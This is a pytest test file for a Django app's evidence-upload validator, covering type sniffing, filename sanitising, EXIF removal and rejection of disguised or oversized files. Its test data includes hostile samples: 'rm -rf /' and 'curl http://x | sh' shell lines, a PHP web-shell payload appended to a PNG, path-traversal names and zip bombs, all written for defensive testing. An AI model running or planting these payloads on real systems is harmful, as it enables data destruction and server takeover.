"""Evidence files: the content decides, not the name. Real PDFs, images and office documents are
accepted (images re-encoded without EXIF); renamed programs, mismatched extensions, zip bombs,
decompression bombs and oversized uploads are refused with a Vietnamese message naming the
file; stored files sit outside the web root under a random name with their SHA-256."""

from __future__ import annotations

import hashlib
import io
import re
import zipfile
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from django.core.files.storage import default_storage
from PIL import Image

from tests.results.conftest import TODAY
from tests.results.evidence_files import (
    image_bytes,
    office_bytes,
    pdf_bytes,
    upload,
    zip_bomb_docx,
)
from thidua.core.models import AuditEvent
from thidua.results import evidence
from thidua.results.activities import report_activity
from thidua.results.evidence import check_upload, sanitize_name, sniff, store_evidence
from thidua.results.models import ActivityKind, EvidenceFile

STORED_NAME = re.compile(r"^evidence/\d{4}/\d{2}/[0-9a-f]{32}\.(pdf|png|jpg|docx|xlsx|pptx)$")


@pytest.fixture
def activity(reporting):
    return report_activity(
        reporting.movement,
        unit=reporting.div_a,
        kind=ActivityKind.objects.get(code="BORDER_PROP"),
        title="Tuyên truyền tại cửa khẩu Tân Thanh",
        occurred_on=TODAY,
        place=reporting.border_place,
        values={"BORDER_PROP.sessions": 1, "BORDER_PROP.residents": 120},
        actor=reporting.head_a,
    )


def refusal(upload_file) -> str:
    with pytest.raises(ValidationError) as caught:
        check_upload(upload_file)
    (message,) = caught.value.messages
    return message


def stored_files(root: Path) -> list[Path]:
    return [p for p in root.rglob("*") if p.is_file()]


# -- The sniffer -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("head", "expected"),
    [
        (b"%PDF-1.7\n", "PDF"),
        (b"\x89PNG\r\n\x1a\n\x00\x00", "PNG"),
        (b"\xff\xd8\xff\xe0\x00\x10JFIF", "JPEG"),
        (b"PK\x03\x04\x14\x00", "ZIP"),
        (b"MZ\x90\x00\x03", "EXECUTABLE"),
        (b"\x7fELF\x02\x01\x01", "EXECUTABLE"),
        (b"#!/bin/sh\nrm -rf /\n", "EXECUTABLE"),
        (b"\xcf\xfa\xed\xfe\x07\x00", "EXECUTABLE"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\x00", "OLE"),
        (b"GIF89a\x01\x00", "GIF"),
        (b"RIFF\x24\x00\x00\x00WEBPVP8 ", "WEBP"),
        (b"<html><script>", "UNKNOWN"),
        (b" %PDF-1.4", "UNKNOWN"),
        (b"", "UNKNOWN"),
    ],
)
def test_sniff_recognises_types_by_their_first_bytes(head, expected):
    assert sniff(head) == expected


@pytest.mark.parametrize(
    ("raw", "clean"),
    [
        ("Báo cáo tháng 11.pdf", "Báo cáo tháng 11.pdf"),
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\Hoa\\Ảnh cửa khẩu.jpg", "Ảnh cửa khẩu.jpg"),
        ("a\x00b\nc.pdf", "a_b_c.pdf"),
        ("", "tep"),
        ("Ba\u0301o ca\u0301o.pdf", "Báo cáo.pdf"),  # decomposed accents become NFC
    ],
)
def test_original_names_are_sanitised(raw, clean):
    assert sanitize_name(raw) == clean


def test_a_very_long_name_keeps_its_extension():
    name = sanitize_name("x" * 400 + ".docx")
    assert (len(name), name[-5:]) == (255, ".docx")


# -- Accepted files --------------------------------------------------------------------------


def test_a_real_pdf_is_stored_outside_the_web_root_under_a_random_name(reporting, activity):
    data = pdf_bytes()
    item = store_evidence(
        upload("Báo cáo tháng 11.pdf", data), activity=activity, actor=reporting.head_a
    )
    assert STORED_NAME.match(item.storage_name)
    assert "Báo" not in item.storage_name
    assert (item.original_name, item.content_type, item.size) == (
        "Báo cáo tháng 11.pdf",
        "application/pdf",
        len(data),
    )
    path = Path(default_storage.path(item.storage_name)).resolve()
    assert path.is_relative_to(reporting.private.resolve())
    assert not path.is_relative_to(reporting.static.resolve())
    assert path.read_bytes() == data
    assert item.sha256 == hashlib.sha256(data).hexdigest()
    event = AuditEvent.objects.for_object(activity).get(action="results.evidence.added")
    assert (event.after["sha256"], event.actor) == (item.sha256, reporting.head_a)


def test_two_uploads_of_one_name_get_two_stored_names(reporting, activity):
    first = store_evidence(upload("a.pdf", pdf_bytes("1")), activity=activity, actor=None)
    second = store_evidence(upload("a.pdf", pdf_bytes("2")), activity=activity, actor=None)
    assert first.storage_name != second.storage_name
    assert first.sha256 != second.sha256


@pytest.mark.parametrize(
    ("name", "kind", "content_type"),
    [
        (
            "ke-hoach.docx",
            "DOCX",
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ),
        (
            "so-lieu.xlsx",
            "XLSX",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        ),
        (
            "trinh-chieu.pptx",
            "PPTX",
            "application/vnd.openxmlformats-officedocument.presentationml.presentation",
        ),
    ],
)
def test_office_documents_are_accepted_as_what_their_main_part_says(
    reporting, activity, name, kind, content_type
):
    data = office_bytes(kind)
    item = store_evidence(upload(name, data), activity=activity, actor=reporting.head_a)
    assert (item.content_type, item.storage_name.rsplit(".", 1)[1]) == (content_type, name[-4:])
    assert Path(default_storage.path(item.storage_name)).read_bytes() == data


def test_a_png_with_exif_is_re_encoded_without_it(reporting, activity):
    original = image_bytes("PNG", gps=True)
    assert b"eXIf" in original
    assert Image.open(io.BytesIO(original)).getexif().get_ifd(0x8825)  # the GPS position
    item = store_evidence(upload("anh.png", original), activity=activity, actor=None)
    stored = Path(default_storage.path(item.storage_name)).read_bytes()
    assert stored != original
    assert b"eXIf" not in stored
    assert (item.sha256, item.size) == (hashlib.sha256(stored).hexdigest(), len(stored))
    with Image.open(io.BytesIO(stored)) as image:
        assert (image.format, image.size, len(image.getexif())) == ("PNG", (40, 30), 0)
        with Image.open(io.BytesIO(original)) as before:
            assert image.convert("RGB").tobytes() == before.convert("RGB").tobytes()


def test_a_jpeg_is_turned_upright_and_loses_its_exif(reporting, activity):
    # Orientation 6: the camera was turned; the stored picture is upright, with no EXIF left.
    original = image_bytes("JPEG", size=(40, 30), gps=True, orientation=6)
    item = store_evidence(upload("Ảnh cửa khẩu.JPG", original), activity=activity, actor=None)
    stored = Path(default_storage.path(item.storage_name)).read_bytes()
    assert stored != original
    assert item.storage_name.endswith(".jpg")
    assert (item.original_name, item.content_type) == ("Ảnh cửa khẩu.JPG", "image/jpeg")
    with Image.open(io.BytesIO(stored)) as image:
        assert (image.format, image.size, len(image.getexif())) == ("JPEG", (30, 40), 0)
        assert "exif" not in image.info


# -- Refused files ---------------------------------------------------------------------------


def test_a_renamed_windows_program_is_refused_by_name(reporting, activity):
    program = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + bytes(200)
    with pytest.raises(ValidationError) as caught:
        store_evidence(upload("report.pdf", program), activity=activity, actor=reporting.head_a)
    assert caught.value.messages == [
        "Tệp “report.pdf” không phải là PDF: nội dung là tệp thực thi."
    ]
    assert EvidenceFile.objects.count() == 0
    assert stored_files(reporting.private) == []


@pytest.mark.parametrize(
    ("name", "data", "message"),
    [
        (
            "anh-chup.png",
            b"\x7fELF\x02\x01\x01\x00" + bytes(100),
            "Tệp “anh-chup.png” không phải là ảnh PNG: nội dung là tệp thực thi.",
        ),
        (
            "bao-cao.docx",
            b"#!/bin/sh\ncurl http://x | sh\n",
            "Tệp “bao-cao.docx” không phải là văn bản Word (.docx): nội dung là tệp thực thi.",
        ),
    ],
)
def test_other_renamed_programs_are_refused(name, data, message):
    assert refusal(upload(name, data)) == message


@pytest.mark.parametrize(
    ("name", "data", "message"),
    [
        (
            "scan.pdf",
            image_bytes("PNG"),
            "Tệp “scan.pdf” không phải là PDF: nội dung là ảnh PNG.",
        ),
        (
            "photo.jpg",
            pdf_bytes(),
            "Tệp “photo.jpg” không phải là ảnh JPEG: nội dung là PDF.",
        ),
        (
            "so-lieu.docx",
            office_bytes("XLSX"),
            "Tệp “so-lieu.docx” không phải là văn bản Word (.docx): nội dung là bảng tính "
            "Excel (.xlsx).",
        ),
        (
            "tep.xlsx",
            pdf_bytes(),
            "Tệp “tep.xlsx” không phải là bảng tính Excel (.xlsx): nội dung là PDF.",
        ),
        (
            "cu.docx",
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500),
            "Tệp “cu.docx” không phải là văn bản Word (.docx): nội dung là tài liệu Office "
            "định dạng cũ (.doc, .xls, .ppt).",
        ),
        (
            "nen.docx",
            office_bytes("DOCX").replace(b"[Content_Types].xml", b"[Content_Typez].xml"),
            "Tệp “nen.docx” không phải là văn bản Word (.docx): nội dung là tệp nén ZIP.",
        ),
        (
            "trang.pdf",
            b"<html><body>Tin</body></html>",
            "Tệp “trang.pdf” không phải là PDF: nội dung là loại tệp không nhận dạng được.",
        ),
    ],
)
def test_content_that_does_not_match_the_extension_is_refused(name, data, message):
    assert refusal(upload(name, data)) == message


def test_an_unsupported_extension_is_refused():
    assert refusal(upload("cai-dat.exe", b"MZ")) == (
        "Tệp “cai-dat.exe” không được nhận: chỉ nhận tệp PDF, ảnh PNG hoặc JPEG, văn bản Word "
        "(.docx), bảng tính Excel (.xlsx), bản trình chiếu PowerPoint (.pptx)."
    )


def test_a_docx_zip_bomb_is_refused(reporting, activity):
    bomb = zip_bomb_docx(200)
    assert len(bomb) < 1024 * 1024  # small on the wire, 200 MB unpacked
    with pytest.raises(ValidationError) as caught:
        store_evidence(upload("bomb.docx", bomb), activity=activity, actor=reporting.head_a)
    (message,) = caught.value.messages
    assert message.startswith("Tệp nén “bomb.docx” giải nén quá lớn (200 MB, tối đa 100 MB)")
    assert EvidenceFile.objects.count() == 0
    assert stored_files(reporting.private) == []


def test_a_small_zip_with_an_extreme_compression_ratio_is_refused():
    # 5 MB of zeros: under the unpacked limit, but about 1000 times the archive's size.
    message = refusal(upload("nho.docx", zip_bomb_docx(5)))
    assert message.startswith("Tệp nén “nho.docx” giải nén quá lớn so với dung lượng tệp")


def test_the_unpacked_limit_is_a_setting(settings):
    settings.THIDUA_EVIDENCE_MAX_UNPACKED_BYTES = 1000
    data = office_bytes("DOCX", extra={"word/media/a.bin": bytes(3000)})
    message = refusal(upload("a.docx", data))
    assert message.startswith("Tệp nén “a.docx” giải nén quá lớn (3,")
    assert "KB, tối đa 1000 B)" in message


def test_a_zip_with_too_many_entries_is_refused():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_STORED) as archive:
        for i in range(10_001):
            archive.writestr(f"p/{i}", b"")
    assert refusal(upload("nhieu.xlsx", out.getvalue())) == (
        "Tệp nén “nhieu.xlsx” có quá nhiều thành phần (10.001, tối đa 10.000)."
    )


@pytest.mark.parametrize("member", ["../../etc/cron.d/x", "/etc/passwd", "C:/Windows/x.dll"])
def test_a_zip_with_unsafe_entry_names_is_refused(member):
    data = office_bytes("DOCX", extra={member: b"x"})
    assert refusal(upload("duong-dan.docx", data)) == (
        f"Tệp nén “duong-dan.docx” chứa đường dẫn không an toàn (“{member}”)."
    )


def test_macro_enabled_documents_are_refused():
    expected = (
        "Tệp “macro.docx” có chứa macro (mã lệnh) nên không được nhận; hãy lưu lại thành tệp "
        ".docx, .xlsx, .pptx thường hoặc PDF."
    )
    assert refusal(upload("macro.docx", office_bytes("DOCM"))) == expected
    with_vba = office_bytes("DOCX", extra={"word/vbaProject.bin": b"\x00" * 10})
    assert refusal(upload("macro.docx", with_vba)) == expected


def test_a_damaged_zip_is_refused():
    data = office_bytes("DOCX")[:200]  # cut before the central directory
    assert refusal(upload("hong.docx", data)) == (
        "Tệp “hong.docx” bị hỏng: không đọc được tệp nén."
    )


def test_the_size_limit_is_checked_before_the_content_is_read(settings):
    class Unreadable(io.BytesIO):
        def read(self, *args):
            raise AssertionError("the content was read")

    settings.THIDUA_EVIDENCE_MAX_BYTES = 1024 * 1024
    big = upload("lon.pdf", b"")
    big.file = Unreadable()
    big.size = 2 * 1024 * 1024
    assert refusal(big) == "Tệp “lon.pdf” quá lớn (2 MB), tối đa 1 MB."


def test_the_default_size_limit_is_20_mb(settings):
    assert settings.THIDUA_EVIDENCE_MAX_BYTES == 20 * 1024 * 1024
    assert settings.THIDUA_EVIDENCE_MAX_UNPACKED_BYTES == 100 * 1024 * 1024
    too_big = upload("lon.pdf", b"%PDF-" + bytes(21 * 1024 * 1024))
    assert refusal(too_big) == "Tệp “lon.pdf” quá lớn (21 MB), tối đa 20 MB."


def test_an_empty_file_is_refused():
    assert refusal(upload("rong.pdf", b"")) == "Tệp “rong.pdf” rỗng."


def test_an_image_wider_than_12000_pixels_is_refused():
    wide = io.BytesIO()
    Image.new("1", (12_001, 2)).save(wide, "PNG")
    assert refusal(upload("rong.png", wide.getvalue())) == (
        "Ảnh “rong.png” quá lớn: tối đa 12.000 × 12.000 điểm ảnh."
    )


@pytest.mark.parametrize("pixels", [1_500, 100_000])
def test_decompression_bombs_are_refused(monkeypatch, pixels):
    # Pillow warns above MAX_IMAGE_PIXELS and raises above twice that: both are refused.
    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", 1_000)
    side = int(pixels**0.5)
    data = image_bytes("PNG", size=(side, side))
    assert refusal(upload("bom.png", data)) == (
        "Ảnh “bom.png” quá lớn: tối đa 12.000 × 12.000 điểm ảnh."
    )


def test_a_truncated_image_is_refused():
    data = image_bytes("JPEG", size=(200, 200))[:300]
    assert refusal(upload("hong.jpg", data)) == (
        "Ảnh “hong.jpg” bị hỏng hoặc không đọc được như ảnh JPEG."
    )


def test_a_png_carrying_a_payload_after_its_data_is_stored_without_it(reporting, activity):
    payload = b"<?php system($_GET['c']); ?>"
    item = store_evidence(
        upload("anh.png", image_bytes("PNG") + payload), activity=activity, actor=None
    )
    assert payload not in Path(default_storage.path(item.storage_name)).read_bytes()


def test_evidence_cannot_be_added_to_a_withdrawn_activity(reporting, activity):
    from thidua.results.activities import withdraw_activity

    withdraw_activity(activity, actor=reporting.head_a)
    activity.refresh_from_db()
    with pytest.raises(ValidationError) as caught:
        store_evidence(upload("a.pdf", pdf_bytes()), activity=activity, actor=None)
    assert caught.value.messages == [
        "Hoạt động “Tuyên truyền tại cửa khẩu Tân Thanh” đã rút lại, không thể thêm minh chứng."
    ]
    assert stored_files(reporting.private) == []


def test_format_size_reads_like_vietnamese():
    assert [evidence.format_size(n) for n in (512, 2048, 20 * 1024 * 1024, 26_528_000)] == [
        "512 B",
        "2 KB",
        "20 MB",
        "25,3 MB",
    ]
